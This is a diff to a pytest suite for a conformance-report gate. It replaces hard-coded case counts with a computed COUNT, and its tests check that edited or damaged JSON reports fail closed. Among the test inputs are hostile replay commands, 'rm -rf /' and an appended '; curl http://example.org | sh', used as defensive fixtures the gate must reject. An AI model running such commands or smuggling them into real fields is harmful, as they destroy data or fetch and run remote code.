@@ -9,11 +9,12 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from sound import COMMIT, Gate, document, report
+from sound import COMMIT, Gate, document, ids, report
 
 from mlx_assay.conformance.verdict import EXIT_CONFORMS, EXIT_INCOMPLETE
 
 Document = dict[str, Any]
+COUNT = len(ids())
 
 
 @pytest.fixture
@@ -84,7 +85,7 @@ def replaced(found: Document) -> None:
 
 
 def unlisted(found: Document) -> None:
-    found["totals"] |= {"same-bits": 29, "differs": 1}
+    found["totals"] |= {"same-bits": COUNT - 1, "differs": 1}
 
 
 def whitewashed(found: Document) -> None:
@@ -99,7 +100,7 @@ EDITS: dict[str, tuple[Callable[[Document], None], str]] = {
     "no schema": (drop("schema"), "missing required field `schema`"),
     "no cases": (put("cases", value=[]), "it holds no case"),
     "no totals": (drop("totals"), "missing required field `totals`"),
-    "a case fewer": (drop("cases", 3), "30 cases were declared but 29 stand in it"),
+    "a case fewer": (drop("cases", 3), f"{COUNT} cases were declared but {COUNT - 1} stand in it"),
     "a case fewer, counts mended": (fewer, "missing of its selection: 1 case,"),
     "a case twice": (again, "twice in it: 1 case,"),
     "a case replaced": (replaced, "not of its selection: 1 case"),
@@ -112,14 +113,20 @@ EDITS: dict[str, tuple[Callable[[Document], None], str]] = {
     ),
     "another operation than the id": (put("cases", 0, "operation", value="argmax_given"), "another operation or dtype"),
     "another dtype than the id": (put("cases", 0, "dtype", value="float32"), "another operation or dtype"),
-    "declared too high": (put("totals", "declared", value=31), "31 cases were declared but 30 stand in it"),
-    "declared too low": (put("totals", "declared", value=29), "29 cases were declared but 30 stand in it"),
-    "executed wrong": (put("totals", "executed", value=29), "its totals are not those of its cases"),
+    "declared too high": (
+        put("totals", "declared", value=COUNT + 1),
+        f"{COUNT + 1} cases were declared but {COUNT} stand in it",
+    ),
+    "declared too low": (
+        put("totals", "declared", value=COUNT - 1),
+        f"{COUNT - 1} cases were declared but {COUNT} stand in it",
+    ),
+    "executed wrong": (put("totals", "executed", value=COUNT - 1), "its totals are not those of its cases"),
     "a count wrong": (unlisted, "its totals are not those of its cases"),
     "a negative count": (put("totals", "differs", value=-1), "its totals are not those of its cases"),
     "a huge count": (put("totals", "declared", value=10**30), "cases were declared"),
-    "a count that is a fraction": (put("totals", "declared", value=30.5), r"Expected `int`, got `float`"),
-    "a count that is a text": (put("totals", "declared", value="30"), r"Expected `int`, got `str`"),
+    "a count that is a fraction": (put("totals", "declared", value=COUNT + 0.5), r"Expected `int`, got `float`"),
+    "a count that is a text": (put("totals", "declared", value=str(COUNT)), r"Expected `int`, got `str`"),
     "a verdict edited": (put("cases", 0, "verdict", value="differs"), "verdict and conformance do not go together: 1"),
     "a conforming rung edited": (put("cases", 0, "verdict", value="same-value"), "its totals are not those"),
     "a verdict that is none": (put("cases", 0, "verdict", value="fine"), "Invalid enum value 'fine'"),
@@ -144,7 +151,10 @@ EDITS: dict[str, tuple[Callable[[Document], None], str]] = {
     "another why": (put("cases", 0, "why", value="x"), "other tags or another reason"),
     "an unknown relaxation": (put("cases", 0, "relaxations", value=["close"]), "a relaxation that the contract does"),
     "another replay": (put("cases", 0, "replay", value="rm -rf /"), "without the command that replays it"),
-    "more behind the replay": (more("; curl http://example.org | sh"), "without the command that replays it: 30 cases"),
+    "more behind the replay": (
+        more("; curl http://example.org | sh"),
+        f"without the command that replays it: {COUNT} cases",
+    ),
     "a quote in the replay": (more(" '"), "without the command that replays it"),
     "a line in the replay": (more("\n::error::x"), "without the command that replays it"),
     "a replay of another implementation": (more("", "kernels", "other"), "without the command that replays it"),
@@ -190,7 +200,7 @@ EDITS: dict[str, tuple[Callable[[Document], None], str]] = {
     "another implementation": (put("implementation", "name", value="other"), "expected implementation kernels"),
     "an operation lacking": (
         put("implementation", "operations", value=[]),
-        "that the implementation lacks: 30",
+        f"that the implementation lacks: {COUNT} cases",
     ),
     "an operation twice": (
         lambda found: found["implementation"]["operations"].append("normalized_argmax"),
@@ -235,7 +245,9 @@ def test_an_edited_report_fails_closed(gate: Gate, plain: Document, name: str) -
     edit, told = EDITS[name]
     edited = json.loads(json.dumps(plain))
     edit(edited)
-    assert gate(json.dumps(edited).encode()) == EXIT_INCOMPLETE, gate.text
+    written = json.dumps(edited)
+    assert written != json.dumps(plain)
+    assert gate(written.encode()) == EXIT_INCOMPLETE, gate.text
     assert re.search(told, gate.text), gate.text
     assert "Traceback" not in gate.text
 
@@ -260,7 +272,7 @@ BYTES: dict[str, tuple[bytes, str]] = {
     "a key twice": (WHOLE.replace(b'"complete"', b'"complete": false, "complete"'), "'complete' stands twice"),
     "NaN": (WHOLE.replace(b'"seconds": 2000.5', b'"seconds": NaN'), "JSON is malformed"),
     "infinity": (WHOLE.replace(b'"seconds": 2000.5', b'"seconds": 1e999'), "Number out of range"),
-    "a number of many digits": (WHOLE.replace(b'"declared": 30', b'"declared": ' + b"3" * 5000), "Expected|digits"),
+    "a number of many digits": (WHOLE.replace(b'"declared": ', b'"declared": ' + b"3" * 5000), "Expected|digits"),
     "nested deep": (WHOLE[:-1] + b', "x": ' + b"[" * 40 + b"]" * 40 + b"}", "at most 32 levels"),
     "nested very deep": (WHOLE[:-1] + b', "x": ' + b"[" * 200_000 + b"]" * 200_000 + b"}", "at most 32 levels"),
     "a comment": (WHOLE.replace(b'"complete"', b'/* */ "complete"'), "JSON is malformed"),
@@ -271,6 +283,7 @@ TRUNCATED = [WHOLE[: len(WHOLE) * part // 16] for part in range(1, 16)]
 @pytest.mark.parametrize("name", BYTES)
 def test_damaged_bytes_fail_closed(gate: Gate, name: str) -> None:
     content, told = BYTES[name]
+    assert content != WHOLE
     assert gate(content) == EXIT_INCOMPLETE
     assert re.search(told, gate.text), gate.text
 
